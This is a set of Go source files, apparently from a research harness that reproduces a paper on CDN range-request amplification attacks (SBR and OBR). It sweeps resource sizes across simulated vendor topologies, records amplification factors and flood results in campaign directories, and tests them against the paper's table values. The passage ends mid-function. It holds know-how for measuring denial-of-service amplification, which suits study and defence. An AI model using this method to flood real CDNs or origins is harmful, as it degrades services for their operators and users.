	rows, err := Map(ctx, parallel, len(configs), func(ctx context.Context, i int) (row, error) {
		c := configs[i]
		store := core.NewStoreWith(size)
		topo, err := core.NewSBRTopology(vendor.Cloudflare(), store, core.SBROptions{OriginRangeSupport: true, Runtime: rt})
		if err != nil {
			return row{}, err
		}
		defer topo.Close()
		res, err := core.RunSBRFloodOpts(ctx, topo, core.FloodOptions{
			ResourceSize: size,
			Workers:      c.workers,
			PerWorker:    2,
			KeepAlive:    true,
			Engine:       c.engine,
			VTime:        core.VTimeOptions{Seed: 1},
		})
		if err != nil {
			return row{}, fmt.Errorf("%s/%s: %w", c.label, c.engine, err)
		}
		virtual := "-"
		if res.VirtualDuration > 0 {
			virtual = res.VirtualDuration.Round(time.Millisecond).String()
		}
		return row{cells: []string{
			c.label,
			string(c.engine),
			fmt.Sprintf("%d", c.workers),
			fmt.Sprintf("%d", res.Requests),
			fmt.Sprintf("%d", res.Amplification.VictimBytes),
			fmt.Sprintf("%d", res.Amplification.AttackerBytes),
			fmt.Sprintf("%.1f", res.Amplification.Factor()),
			virtual,
		}}, nil
	})
	if err != nil {
		return nil, err
	}

	tab := &report.Table{
		Title:   "Virtual-time engine — pipe-identical accounting, then scale (1 MiB, keep-alive, Cloudflare)",
		Slug:    "vtimeflood",
		Columns: []string{"Scenario", "Engine", "Clients", "Requests", "Origin bytes", "Client bytes", "Factor", "Virtual time"},
	}
	for _, r := range rows {
		tab.AddRow(r.cells...)
	}
	return tab, nil
}
