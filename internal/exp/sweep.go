package exp

import (
	"context"
	"fmt"
	"strconv"

	"repro/internal/core"
	"repro/internal/report"
	"repro/internal/vendor"
)

// ---------------------------------------------------------------------
// Experiment E2 — Table IV / Fig 6: SBR amplification sweep.

// SBRSweepResult holds the per-vendor amplification series across the
// swept resource sizes.
type SBRSweepResult struct {
	Vendors     []string // display names, paper order
	SizesMB     []int
	Factor      map[string][]float64
	ClientBytes map[string][]int64 // response traffic CDN -> client (Fig 6b)
	OriginBytes map[string][]int64 // response traffic origin -> CDN (Fig 6c)
	Cases       map[string]string  // exploited range case per vendor
}

// sweepCell is one (vendor, size) measurement.
type sweepCell struct {
	display     string
	factor      float64
	clientBytes int64
	originBytes int64
	rangeCase   string
}

// SBRSweep measures SBR amplification for every vendor at each
// resource size. Sizes run in order; within a size the vendor cells
// fan out across the scheduler, sharing one read-only resource store.
func SBRSweep(ctx context.Context, sizesMB []int, parallel int) (*SBRSweepResult, error) {
	return SBRSweepEnv(ctx, nil, sizesMB, parallel)
}

// SBRSweepEnv is SBRSweep reporting into an explicit runtime environment.
func SBRSweepEnv(ctx context.Context, rt *Runtime, sizesMB []int, parallel int) (*SBRSweepResult, error) {
	res := &SBRSweepResult{
		SizesMB:     sizesMB,
		Factor:      make(map[string][]float64),
		ClientBytes: make(map[string][]int64),
		OriginBytes: make(map[string][]int64),
		Cases:       make(map[string]string),
	}
	for _, sizeMB := range sizesMB {
		size := int64(sizeMB) * core.MiB
		store := core.NewStoreWith(size)
		cells, err := ForEachVendor(ctx, parallel, func(ctx context.Context, p *vendor.Profile) (sweepCell, error) {
			if err := ctx.Err(); err != nil {
				return sweepCell{}, err
			}
			topo, err := core.NewSBRTopology(p, store, core.SBROptions{OriginRangeSupport: true, Runtime: rt})
			if err != nil {
				return sweepCell{}, err
			}
			if err := core.PrimeSizeHint(topo, core.TargetPath); err != nil {
				topo.Close()
				return sweepCell{}, err
			}
			topo.ClientSeg.Reset()
			topo.OriginSeg.Reset()
			sbr, err := core.RunSBRContext(ctx, topo, core.TargetPath, size, core.CacheBuster(sizeMB))
			topo.Close()
			if err != nil {
				return sweepCell{}, fmt.Errorf("%s @ %dMB: %w", p.Name, sizeMB, err)
			}
			return sweepCell{
				display:     p.DisplayName,
				factor:      sbr.Amplification.Factor(),
				clientBytes: sbr.Amplification.AttackerBytes,
				originBytes: sbr.Amplification.VictimBytes,
				rangeCase:   sbr.Case.RangeHeader,
			}, nil
		})
		if err != nil {
			return nil, err
		}
		for _, c := range cells {
			if len(res.Factor[c.display]) == 0 {
				res.Vendors = append(res.Vendors, c.display)
			}
			res.Factor[c.display] = append(res.Factor[c.display], c.factor)
			res.ClientBytes[c.display] = append(res.ClientBytes[c.display], c.clientBytes)
			res.OriginBytes[c.display] = append(res.OriginBytes[c.display], c.originBytes)
			res.Cases[c.display] = c.rangeCase
		}
	}
	return res, nil
}

// Table4 renders the sweep as the paper's Table IV (factors rounded to
// integers, as printed there).
func (r *SBRSweepResult) Table4() *report.Table {
	tab := &report.Table{
		Title:   "Table IV — SBR amplification factor by resource size",
		Slug:    "table4",
		Columns: []string{"CDN", "Exploited Range Case"},
	}
	for _, mb := range r.SizesMB {
		tab.Columns = append(tab.Columns, fmt.Sprintf("%dMB", mb))
	}
	for _, v := range r.Vendors {
		row := []string{v, r.Cases[v]}
		for i := range r.SizesMB {
			row = append(row, strconv.Itoa(int(r.Factor[v][i]+0.5)))
		}
		tab.AddRow(row...)
	}
	return tab
}

// Fig6 renders the sweep as the paper's three Fig 6 panels.
func (r *SBRSweepResult) Fig6() (factors, clientTraffic, originTraffic *report.Figure) {
	x := make([]float64, len(r.SizesMB))
	for i, mb := range r.SizesMB {
		x[i] = float64(mb)
	}
	mk := func(title, slug, ylabel string, y func(string) []float64) *report.Figure {
		f := &report.Figure{Title: title, Slug: slug, XLabel: "resource size (MB)", YLabel: ylabel}
		for _, v := range r.Vendors {
			f.Series = append(f.Series, report.Series{Name: v, X: x, Y: y(v)})
		}
		return f
	}
	factors = mk("Fig 6a — amplification factors", "fig6a", "factor", func(v string) []float64 {
		return r.Factor[v]
	})
	clientTraffic = mk("Fig 6b — response traffic CDN->client", "fig6b", "bytes", func(v string) []float64 {
		return toFloats(r.ClientBytes[v])
	})
	originTraffic = mk("Fig 6c — response traffic origin->CDN", "fig6c", "bytes", func(v string) []float64 {
		return toFloats(r.OriginBytes[v])
	})
	return factors, clientTraffic, originTraffic
}
