package campaign

import (
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"time"

	"repro/internal/metrics"
)

// ManifestFile and the cell-file naming scheme define the on-disk
// layout of a campaign directory:
//
//	dir/
//	  campaign.json          the manifest (spec, git, timestamps, counts)
//	  cell-<hash>.json       one CellResult per cell, content-addressed
//	  report.txt, report.csv the consolidated report
const ManifestFile = "campaign.json"

// cellFile is a cell's result path inside dir.
func cellFile(dir, hash string) string {
	return filepath.Join(dir, "cell-"+hash+".json")
}

// CellResult is one cell's persisted measurement: the config that
// produced it (so a result file is self-describing), the common
// amplification numbers, and the kind-specific extras.
type CellResult struct {
	Hash    string     `json:"hash"`
	Config  CellConfig `json:"config"`
	Started time.Time  `json:"started"`
	// DurationMS is the cell's wall-clock execution time. It is
	// informational: Diff never compares it.
	DurationMS int64 `json:"duration_ms"`

	// RangeHeader is the concrete Range header the cell sent (the
	// resolved grammar; truncated to the first 64 bytes for OBR max-n
	// cases, whose full header can be tens of kilobytes).
	RangeHeader string `json:"range_header,omitempty"`

	// VictimBytes / AttackerBytes / Factor are the amplification
	// measurement (response-direction traffic on the victim and
	// attacker segments).
	VictimBytes   int64   `json:"victim_bytes"`
	AttackerBytes int64   `json:"attacker_bytes"`
	Factor        float64 `json:"factor"`

	// Flood extras.
	Requests int   `json:"requests,omitempty"`
	Failures int   `json:"failures,omitempty"`
	Blocked  int   `json:"blocked,omitempty"`
	Dials    int64 `json:"dials,omitempty"`

	// OBR extras: the planned range count and the parts the client got.
	MaxN  int `json:"max_n,omitempty"`
	Parts int `json:"parts,omitempty"`

	// Output is the full rendered result of an "exp:" cell (the
	// registry experiment's JSON form); nil for the probe kinds.
	Output json.RawMessage `json:"output,omitempty"`
}

// Manifest is the campaign directory's top-level record. Status stays
// "running" until every cell completed, so an interrupted campaign is
// recognizable (and resumable) by inspection.
type Manifest struct {
	Name     string    `json:"name"`
	Spec     Spec      `json:"spec"`
	Git      string    `json:"git,omitempty"`
	Started  time.Time `json:"started"`
	Finished time.Time `json:"finished,omitempty"`
	Status   string    `json:"status"` // "running" or "complete"
	Cells    int       `json:"cells"`
	Executed int       `json:"executed"`
	Skipped  int       `json:"skipped"`
	// CellSet fingerprints the expanded cell list (a hash over the
	// sorted cell hashes), so resuming with an edited spec fails loudly
	// instead of mixing two campaigns in one directory.
	CellSet string `json:"cell_set"`
	// Timing summarizes per-cell wall time over every result on disk
	// (resumed cells keep the duration from the run that executed them).
	// Nil until the campaign completes. Diff never compares it.
	Timing *Timing `json:"timing,omitempty"`
}

// Timing is the per-cell wall-time summary: exact total/mean/min/max,
// and p50/p95/p99 estimated from a log-bucket histogram (the same
// estimator the live latency row uses).
type Timing struct {
	TotalMS int64 `json:"total_ms"`
	MeanMS  int64 `json:"mean_ms"`
	MinMS   int64 `json:"min_ms"`
	MaxMS   int64 `json:"max_ms"`
	P50MS   int64 `json:"p50_ms"`
	P95MS   int64 `json:"p95_ms"`
	P99MS   int64 `json:"p99_ms"`
}

// timingOf summarizes the DurationMS of every non-nil result. Nil when
// nothing carries a duration.
func timingOf(results []*CellResult) *Timing {
	h := metrics.NewHistogram(nil)
	t := &Timing{MinMS: -1}
	n := int64(0)
	for _, r := range results {
		if r == nil {
			continue
		}
		n++
		h.Observe(r.DurationMS)
		t.TotalMS += r.DurationMS
		if t.MinMS < 0 || r.DurationMS < t.MinMS {
			t.MinMS = r.DurationMS
		}
		if r.DurationMS > t.MaxMS {
			t.MaxMS = r.DurationMS
		}
	}
	if n == 0 {
		return nil
	}
	t.MeanMS = (t.TotalMS + n/2) / n
	t.P50MS = h.Quantile(0.50)
	t.P95MS = h.Quantile(0.95)
	t.P99MS = h.Quantile(0.99)
	return t
}

// cellSetHash fingerprints a cell list independent of order.
func cellSetHash(cells []Cell) string {
	hs := make([]string, len(cells))
	for i, c := range cells {
		hs[i] = c.Hash
	}
	sort.Strings(hs)
	return CellConfig{Experiment: "cellset", Vendor: strings.Join(hs, ",")}.Hash()
}

// writeJSONAtomic marshals v and renames it into place, so a crashed
// run never leaves a half-written result file for resume to trust.
func writeJSONAtomic(path string, v any) error {
	data, err := json.MarshalIndent(v, "", "  ")
	if err != nil {
		return err
	}
	data = append(data, '\n')
	tmp := path + ".tmp"
	if err := os.WriteFile(tmp, data, 0o644); err != nil {
		return err
	}
	return os.Rename(tmp, path)
}

// readJSON unmarshals path into v.
func readJSON(path string, v any) error {
	data, err := os.ReadFile(path)
	if err != nil {
		return err
	}
	return json.Unmarshal(data, v)
}

// Campaign is a loaded campaign directory: the manifest plus every
// parsable cell result keyed by hash.
type Campaign struct {
	Dir      string
	Manifest *Manifest
	Cells    map[string]*CellResult
}

// Load reads a campaign directory. Cell files that fail to parse are
// skipped (they count as missing, which is what Diff and resume both
// want for a torn file), but a missing or invalid manifest is an error.
func Load(dir string) (*Campaign, error) {
	var m Manifest
	if err := readJSON(filepath.Join(dir, ManifestFile), &m); err != nil {
		return nil, fmt.Errorf("campaign: reading %s: %w", filepath.Join(dir, ManifestFile), err)
	}
	entries, err := os.ReadDir(dir)
	if err != nil {
		return nil, err
	}
	c := &Campaign{Dir: dir, Manifest: &m, Cells: make(map[string]*CellResult)}
	for _, e := range entries {
		name := e.Name()
		if !strings.HasPrefix(name, "cell-") || !strings.HasSuffix(name, ".json") {
			continue
		}
		var res CellResult
		if err := readJSON(filepath.Join(dir, name), &res); err != nil {
			continue
		}
		if res.Hash == "" || res.Hash != strings.TrimSuffix(strings.TrimPrefix(name, "cell-"), ".json") {
			continue
		}
		c.Cells[res.Hash] = &res
	}
	return c, nil
}
