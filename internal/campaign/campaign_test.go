package campaign

import (
	"bytes"
	"context"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"repro/internal/vendor"
)

// TestCellHashGolden pins the content-address scheme. These hex values
// are load-bearing: campaign directories on disk are addressed by them,
// so a change here invalidates every stored campaign. Do not update
// the constants without understanding that cost.
func TestCellHashGolden(t *testing.T) {
	cases := []struct {
		cfg  CellConfig
		want string
	}{
		{CellConfig{Experiment: KindSBR, Vendor: "akamai", SizeMB: 25}, "9e76c9572db64000"},
		{CellConfig{Experiment: KindFlood, Vendor: "cloudflare", SizeMB: 1, KeepAlive: true, Workers: 2, PerWorker: 3}, "df58b857aba6bb4d"},
		{CellConfig{Experiment: KindOBR, Vendor: "cdn77", BCDN: "akamai"}, "09bb1010a88744a2"},
		{CellConfig{Experiment: ExpPrefix + "table1"}, "5cb730102f66a657"},
		{CellConfig{Experiment: KindSBR, Vendor: "fastly", SizeMB: 10, Grammar: GrammarSuffix,
			CacheState: CacheWarm, Collapse: true, Mitigation: MitigationSlicing}, "08b9befaf1ffb8ed"},
	}
	for _, c := range cases {
		if got := c.cfg.Hash(); got != c.want {
			t.Errorf("%s: hash %s, want %s", c.cfg.Label(), got, c.want)
		}
	}
}

// TestCellHashNormalization: spelling out a default must hash like
// omitting it, so specs round-tripped through JSON stay addressable.
func TestCellHashNormalization(t *testing.T) {
	implicit := CellConfig{Experiment: KindSBR, Vendor: "akamai", SizeMB: 25}
	explicit := CellConfig{Experiment: KindSBR, Vendor: "akamai", SizeMB: 25,
		Grammar: GrammarExploit, CacheState: CacheCold, Mitigation: MitigationNone}
	if implicit.Hash() != explicit.Hash() {
		t.Fatalf("explicit defaults changed the hash: %s vs %s", implicit.Hash(), explicit.Hash())
	}
}

func TestSpecDefaultsExpansion(t *testing.T) {
	cells, err := Spec{}.Cells()
	if err != nil {
		t.Fatal(err)
	}
	want := len(vendor.Names()) * 3 // every vendor × {1,10,25}MB, sbr only
	if len(cells) != want {
		t.Fatalf("default spec expanded to %d cells, want %d", len(cells), want)
	}
	seen := make(map[string]bool)
	for _, c := range cells {
		if seen[c.Hash] {
			t.Fatalf("duplicate cell hash %s", c.Hash)
		}
		seen[c.Hash] = true
	}
}

func TestSpecExpansionOBRAndExp(t *testing.T) {
	cells, err := Spec{Experiments: []string{KindOBR, ExpPrefix + "table1"}}.Cells()
	if err != nil {
		t.Fatal(err)
	}
	if len(cells) != 11+1 { // Table V's 11 cascades + one exp cell
		t.Fatalf("expanded to %d cells, want 12", len(cells))
	}
}

func TestSpecExpansionRejectsBadValues(t *testing.T) {
	for _, s := range []Spec{
		{Experiments: []string{"nonsense"}},
		{Axes: Axes{Vendors: []string{"notacdn"}}},
		{Axes: Axes{RangeGrammars: []string{"bytes=0-0"}}},
		{Axes: Axes{CacheStates: []string{"lukewarm"}}},
		{Axes: Axes{Mitigations: []string{"hope"}}},
		{Experiments: []string{KindOBR}, Axes: Axes{OBRPairs: []string{"cdn77-akamai"}}},
		{Experiments: []string{ExpPrefix + "nonsense"}},
	} {
		if _, err := s.Cells(); err == nil {
			t.Errorf("spec %+v expanded without error", s)
		}
	}
}

// smokeSpec is a fast four-cell campaign used by the run tests.
func smokeSpec() Spec {
	return Spec{
		Name:        "smoke",
		Experiments: []string{KindSBR},
		Axes: Axes{
			Vendors: []string{"cloudflare", "fastly", "akamai", "cdn77"},
			SizesMB: []int{1},
		},
	}
}

func TestRunWritesCampaignDir(t *testing.T) {
	dir := t.TempDir()
	sum, err := Run(context.Background(), smokeSpec(), RunOptions{Dir: dir, Parallel: 2})
	if err != nil {
		t.Fatal(err)
	}
	if sum.Total != 4 || sum.Executed != 4 || sum.Skipped != 0 {
		t.Fatalf("summary = %+v, want 4 executed", sum)
	}
	c, err := Load(dir)
	if err != nil {
		t.Fatal(err)
	}
	if c.Manifest.Status != "complete" || c.Manifest.Cells != 4 {
		t.Fatalf("manifest = %+v", c.Manifest)
	}
	if len(c.Cells) != 4 {
		t.Fatalf("loaded %d cell files, want 4", len(c.Cells))
	}
	for _, r := range c.Cells {
		if r.Factor <= 1 {
			t.Errorf("%s: factor %.2f, want amplification > 1", r.Config.Label(), r.Factor)
		}
	}
	for _, f := range []string{"report.txt", "report.csv"} {
		if _, err := os.Stat(filepath.Join(dir, f)); err != nil {
			t.Errorf("missing %s: %v", f, err)
		}
	}
	// A second run without Resume must refuse the directory.
	if _, err := Run(context.Background(), smokeSpec(), RunOptions{Dir: dir}); err == nil {
		t.Fatal("re-running into a used directory without Resume succeeded")
	}
}

// TestRunResume is the interruption contract: kill a campaign mid-run,
// resume it, and the finished cells must be skipped byte-for-byte while
// only the missing ones execute.
func TestRunResume(t *testing.T) {
	dir := t.TempDir()
	spec := smokeSpec()

	// First run: cancel after two cells have completed. Parallel is 1 so
	// cells finish in deterministic expansion order.
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	done := 0
	_, err := Run(ctx, spec, RunOptions{Dir: dir, Parallel: 1, OnCell: func(Cell, *CellResult, bool) {
		if done++; done == 2 {
			cancel()
		}
	}})
	if err == nil {
		t.Fatal("cancelled run reported success")
	}
	c, err := Load(dir)
	if err != nil {
		t.Fatal(err)
	}
	if c.Manifest.Status != "running" {
		t.Fatalf("interrupted manifest status %q, want running", c.Manifest.Status)
	}
	if len(c.Cells) != 2 {
		t.Fatalf("%d cell files after interruption, want 2", len(c.Cells))
	}
	before := make(map[string][]byte)
	for hash := range c.Cells {
		data, err := os.ReadFile(cellFile(dir, hash))
		if err != nil {
			t.Fatal(err)
		}
		before[hash] = data
	}

	// Resume: exactly the two missing cells run, the finished files stay
	// byte-identical, and the manifest finalizes.
	sum, err := Run(context.Background(), spec, RunOptions{Dir: dir, Parallel: 1, Resume: true})
	if err != nil {
		t.Fatal(err)
	}
	if sum.Executed != 2 || sum.Skipped != 2 {
		t.Fatalf("resume executed %d / skipped %d, want 2 / 2", sum.Executed, sum.Skipped)
	}
	for hash, data := range before {
		after, err := os.ReadFile(cellFile(dir, hash))
		if err != nil {
			t.Fatal(err)
		}
		if !bytes.Equal(data, after) {
			t.Errorf("cell %s rewritten on resume", hash)
		}
	}
	c, err = Load(dir)
	if err != nil {
		t.Fatal(err)
	}
	if c.Manifest.Status != "complete" || c.Manifest.Finished.IsZero() {
		t.Fatalf("resumed manifest not finalized: %+v", c.Manifest)
	}

	// A second resume skips everything.
	sum, err = Run(context.Background(), spec, RunOptions{Dir: dir, Resume: true})
	if err != nil {
		t.Fatal(err)
	}
	if sum.Executed != 0 || sum.Skipped != 4 {
		t.Fatalf("full resume executed %d / skipped %d, want 0 / 4", sum.Executed, sum.Skipped)
	}
}

func TestRunResumeRejectsSpecMismatch(t *testing.T) {
	dir := t.TempDir()
	if _, err := Run(context.Background(), smokeSpec(), RunOptions{Dir: dir}); err != nil {
		t.Fatal(err)
	}
	other := smokeSpec()
	other.Axes.SizesMB = []int{10}
	if _, err := Run(context.Background(), other, RunOptions{Dir: dir, Resume: true}); err == nil {
		t.Fatal("resume with a different cell set succeeded")
	} else if !strings.Contains(err.Error(), "spec mismatch") {
		t.Fatalf("unexpected error: %v", err)
	}
}

func TestDiff(t *testing.T) {
	oldDir, newDir := t.TempDir(), t.TempDir()
	if _, err := Run(context.Background(), smokeSpec(), RunOptions{Dir: oldDir}); err != nil {
		t.Fatal(err)
	}
	if _, err := Run(context.Background(), smokeSpec(), RunOptions{Dir: newDir}); err != nil {
		t.Fatal(err)
	}

	d, err := Diff(oldDir, newDir, 0)
	if err != nil {
		t.Fatal(err)
	}
	if !d.Clean() || d.Compared != 4 {
		t.Fatalf("identical campaigns diffed dirty: %+v", d)
	}
	var buf bytes.Buffer
	if err := d.Render(&buf); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(buf.String(), "no regressions") {
		t.Fatalf("clean render missing verdict: %q", buf.String())
	}

	// Corrupt one cell's factor and drop another: one Changed, one Missing.
	c, err := Load(newDir)
	if err != nil {
		t.Fatal(err)
	}
	var mutated, removed string
	for hash, r := range c.Cells {
		if mutated == "" {
			mutated = hash
			r.Factor *= 2
			if err := writeJSONAtomic(cellFile(newDir, hash), r); err != nil {
				t.Fatal(err)
			}
			continue
		}
		if removed == "" {
			removed = hash
			if err := os.Remove(cellFile(newDir, hash)); err != nil {
				t.Fatal(err)
			}
		}
	}
	d, err = Diff(oldDir, newDir, 0)
	if err != nil {
		t.Fatal(err)
	}
	if d.Clean() || len(d.Missing) != 1 || len(d.Changed) != 1 {
		t.Fatalf("diff after mutation = %+v", d)
	}
	if d.Changed[0].Field != "factor" {
		t.Fatalf("changed field %q, want factor", d.Changed[0].Field)
	}

	// A small tolerance forgives a small drift but not a 2x factor jump.
	d, err = Diff(oldDir, newDir, 0.01)
	if err != nil {
		t.Fatal(err)
	}
	if len(d.Changed) != 1 {
		t.Fatalf("2x factor change inside 1%% tolerance: %+v", d)
	}
}

func TestRunExpCell(t *testing.T) {
	dir := t.TempDir()
	sum, err := Run(context.Background(),
		Spec{Experiments: []string{ExpPrefix + "table1"}},
		RunOptions{Dir: dir, Parallel: 2})
	if err != nil {
		t.Fatal(err)
	}
	if len(sum.Results) != 1 || len(sum.Results[0].Output) == 0 {
		t.Fatalf("exp cell produced no output: %+v", sum.Results)
	}
	if !strings.Contains(string(sum.Results[0].Output), "table1") {
		t.Fatalf("exp cell output missing experiment name: %.120s", sum.Results[0].Output)
	}
}

// TestPaperGoldens: the campaign's cold exploit cells must reproduce
// the Table IV numbers exactly — the runner follows the sweep protocol
// (prime size hint, reset segments, CacheBuster(sizeMB)) so results
// are interchangeable with the exp layer's goldens.
func TestPaperGoldens(t *testing.T) {
	if testing.Short() {
		t.Skip("25MB campaign cell in -short mode")
	}
	dir := t.TempDir()
	sum, err := Run(context.Background(), Spec{
		Experiments: []string{KindSBR},
		Axes:        Axes{Vendors: []string{"akamai"}, SizesMB: []int{25}},
	}, RunOptions{Dir: dir})
	if err != nil {
		t.Fatal(err)
	}
	if got := int(sum.Results[0].Factor + 0.5); got != 43187 {
		t.Fatalf("akamai 25MB campaign factor %d, want 43187 (Table IV)", got)
	}
}
