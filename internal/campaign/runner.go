package campaign

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"time"

	"repro/internal/core"
	"repro/internal/exp"
	"repro/internal/measure"
	"repro/internal/obs"
	"repro/internal/report"
)

// RunOptions shape one campaign execution.
type RunOptions struct {
	// Dir is the campaign directory (created if missing). Required.
	Dir string
	// Parallel bounds the cell worker pool (the exp scheduler's bound);
	// values <= 1 run cells serially. "exp:" cells hand the same bound
	// to the registered experiment they wrap.
	Parallel int
	// Resume continues an interrupted campaign in Dir: cells whose
	// result file already exists (and parses, and matches its hash) are
	// skipped. Without Resume, a Dir that already holds a manifest is
	// refused rather than silently mixed into.
	Resume bool
	// OnCell, when set, observes every cell completion (executed or
	// skipped), in completion order. It may be called concurrently from
	// worker goroutines when Parallel > 1.
	OnCell func(cell Cell, res *CellResult, skipped bool)
	// Progress, when set, receives the cell lifecycle as structured
	// JSONL events (obs.EventCampaignStart through
	// obs.EventCampaignFinish) — queued/started/finished/skipped per
	// cell, with running done counts and an ETA estimated from the mean
	// executed-cell duration. A nil log is a no-op.
	Progress *obs.EventLog
}

// Summary is what Run returns: the counts plus every cell result in
// expansion order.
type Summary struct {
	Dir      string
	Total    int
	Executed int
	Skipped  int
	Results  []*CellResult
}

// Run expands spec, executes its cells on the scheduler — one fresh
// isolated core.Runtime per cell, so cells share no metrics, tracer or
// cache state — and persists one JSON result file per cell into
// opts.Dir, plus a manifest and a consolidated report. Execution is
// fail-fast: the first cell error cancels the rest and leaves the
// manifest in status "running" with every completed cell's file intact,
// which is exactly the state Resume picks up from.
func Run(ctx context.Context, spec Spec, opts RunOptions) (*Summary, error) {
	if opts.Dir == "" {
		return nil, fmt.Errorf("campaign: RunOptions.Dir is required")
	}
	spec = spec.withDefaults()
	cells, err := spec.Cells()
	if err != nil {
		return nil, err
	}
	if err := os.MkdirAll(opts.Dir, 0o755); err != nil {
		return nil, err
	}
	setHash := cellSetHash(cells)
	manifestPath := filepath.Join(opts.Dir, ManifestFile)

	m := Manifest{
		Name:    spec.Name,
		Spec:    spec,
		Git:     gitDescribe(),
		Started: time.Now().UTC(),
	}
	if prev, err := os.Stat(manifestPath); err == nil && prev.Size() > 0 {
		if !opts.Resume {
			return nil, fmt.Errorf("campaign: %s already holds a campaign; pass Resume to continue it", opts.Dir)
		}
		var old Manifest
		if err := readJSON(manifestPath, &old); err != nil {
			return nil, fmt.Errorf("campaign: unreadable manifest in %s: %w", opts.Dir, err)
		}
		if old.CellSet != setHash {
			return nil, fmt.Errorf("campaign: spec mismatch: %s was produced by a different cell set (have %s, want %s); use a fresh directory",
				opts.Dir, old.CellSet, setHash)
		}
		m = old
		m.Finished = time.Time{}
	}
	m.Status = "running"
	m.Cells = len(cells)
	m.CellSet = setHash
	if err := writeJSONAtomic(manifestPath, &m); err != nil {
		return nil, err
	}

	parallel := opts.Parallel
	if parallel < 1 {
		parallel = 1
	}
	prog := &progress{log: opts.Progress, name: spec.Name, total: len(cells), parallel: parallel}
	prog.start(cells)
	var (
		mu                sync.Mutex
		executed, skipped int
	)
	results, err := exp.Map(ctx, parallel, len(cells), func(ctx context.Context, i int) (*CellResult, error) {
		cell := cells[i]
		path := cellFile(opts.Dir, cell.Hash)
		if opts.Resume {
			if res, ok := loadDone(path, cell.Hash); ok {
				mu.Lock()
				skipped++
				mu.Unlock()
				prog.cellSkip(cell)
				if opts.OnCell != nil {
					opts.OnCell(cell, res, true)
				}
				return res, nil
			}
		}
		prog.cellStart(cell)
		res, err := runCell(ctx, cell, parallel)
		if err != nil {
			prog.cellError(cell, err)
			return nil, fmt.Errorf("cell %s (%s): %w", cell.Hash, cell.Config.Label(), err)
		}
		if err := writeJSONAtomic(path, res); err != nil {
			return nil, err
		}
		mu.Lock()
		executed++
		mu.Unlock()
		prog.cellFinish(cell, res.DurationMS)
		if opts.OnCell != nil {
			opts.OnCell(cell, res, false)
		}
		return res, nil
	})
	if err != nil {
		// Manifest stays "running": completed cell files are on disk and
		// a Resume run will skip them.
		return nil, err
	}

	m.Executed = executed
	m.Skipped = skipped
	m.Finished = time.Now().UTC()
	m.Status = "complete"
	m.Timing = timingOf(results)
	prog.finish(m.Timing)
	if err := writeJSONAtomic(manifestPath, &m); err != nil {
		return nil, err
	}
	if err := writeReport(opts.Dir, spec.Name, results); err != nil {
		return nil, err
	}
	return &Summary{Dir: opts.Dir, Total: len(cells), Executed: executed, Skipped: skipped, Results: results}, nil
}

// progress narrates the cell lifecycle into an obs.EventLog. All
// methods are safe with a nil log (every Emit is a no-op then) and
// concurrent callers (the worker pool finishes cells in parallel).
type progress struct {
	log      *obs.EventLog
	name     string
	total    int
	parallel int

	mu       sync.Mutex
	done     int   // cells finished or skipped
	executed int   // cells actually run
	totalMS  int64 // executed wall time, for the mean behind the ETA
}

// start announces the campaign and queues every cell.
func (p *progress) start(cells []Cell) {
	if p.log == nil {
		return
	}
	p.log.Emit(obs.Event{Event: obs.EventCampaignStart, Campaign: p.name, Total: p.total})
	for _, c := range cells {
		p.log.Emit(obs.Event{Event: obs.EventCellQueued, Campaign: p.name,
			Cell: c.Hash, Label: c.Config.Label(), Total: p.total})
	}
}

func (p *progress) cellStart(c Cell) {
	if p.log == nil {
		return
	}
	p.log.Emit(obs.Event{Event: obs.EventCellStart, Campaign: p.name,
		Cell: c.Hash, Label: c.Config.Label(), Total: p.total})
}

// bump advances the done count and returns (done, etaMS): the mean
// executed-cell duration times the remaining cell count, divided by the
// worker pool width. Zero until at least one cell has executed.
func (p *progress) bump(ran bool, durMS int64) (done int, etaMS int64) {
	p.mu.Lock()
	defer p.mu.Unlock()
	p.done++
	if ran {
		p.executed++
		p.totalMS += durMS
	}
	if p.executed > 0 {
		mean := float64(p.totalMS) / float64(p.executed)
		etaMS = int64(mean * float64(p.total-p.done) / float64(p.parallel))
	}
	return p.done, etaMS
}

func (p *progress) cellSkip(c Cell) {
	if p.log == nil {
		return
	}
	done, eta := p.bump(false, 0)
	p.log.Emit(obs.Event{Event: obs.EventCellSkip, Campaign: p.name,
		Cell: c.Hash, Label: c.Config.Label(), Done: done, Total: p.total, EtaMS: eta})
}

func (p *progress) cellFinish(c Cell, durMS int64) {
	if p.log == nil {
		return
	}
	done, eta := p.bump(true, durMS)
	p.log.Emit(obs.Event{Event: obs.EventCellFinish, Campaign: p.name,
		Cell: c.Hash, Label: c.Config.Label(), Done: done, Total: p.total,
		DurationMS: durMS, EtaMS: eta})
}

func (p *progress) cellError(c Cell, err error) {
	if p.log == nil {
		return
	}
	p.log.Emit(obs.Event{Event: obs.EventCellFinish, Campaign: p.name,
		Cell: c.Hash, Label: c.Config.Label(), Error: err.Error(), Total: p.total})
}

func (p *progress) finish(t *Timing) {
	if p.log == nil {
		return
	}
	ev := obs.Event{Event: obs.EventCampaignFinish, Campaign: p.name,
		Done: p.done, Total: p.total}
	if t != nil {
		ev.DurationMS = t.TotalMS
	}
	p.log.Emit(ev)
}

// loadDone reports whether path holds a finished, self-consistent
// result for the cell. Torn or stale files (wrong hash, parse error)
// are treated as absent, so the cell simply re-runs.
func loadDone(path, hash string) (*CellResult, bool) {
	var res CellResult
	if err := readJSON(path, &res); err != nil {
		return nil, false
	}
	if res.Hash != hash {
		return nil, false
	}
	return &res, true
}

// gitDescribe records the code version into the manifest, best-effort:
// campaigns outlast checkouts, and a diff between directories is only
// meaningful alongside what code produced each.
func gitDescribe() string {
	out, err := exec.Command("git", "describe", "--always", "--dirty", "--tags").Output()
	if err != nil {
		return ""
	}
	return strings.TrimSpace(string(out))
}

// ---------------------------------------------------------------------
// Cell execution.

// runCell dispatches one cell to its kind's runner under a fresh
// runtime environment.
func runCell(ctx context.Context, cell Cell, parallel int) (*CellResult, error) {
	c := cell.Config.normalized()
	start := time.Now()
	out := &CellResult{Hash: cell.Hash, Config: c, Started: start.UTC()}
	var err error
	switch {
	case c.Experiment == KindSBR:
		err = runSBRCell(ctx, c, out)
	case c.Experiment == KindFlood:
